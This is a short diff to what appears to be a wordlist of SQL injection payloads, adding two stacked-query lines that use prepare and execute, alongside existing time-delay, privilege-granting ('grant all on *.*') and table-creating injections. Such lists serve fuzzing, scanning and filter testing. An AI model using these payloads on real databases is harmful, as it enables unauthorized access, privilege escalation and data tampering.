@@ -172,6 +172,8 @@ name;waitfor delay '0:0:5'
 1-sleep(5)
 1*(select 1 from dual)
 1;set @a=1;prepare s from @a;execute s
+1");select 0x61 into @b;execute b;--
+1';prepare s from @a;execute s;--
 '; execute immediate 'sel' || 'ect'--
 1; grant all on *.* to 'a'@'%'
 1;create table a(b int)
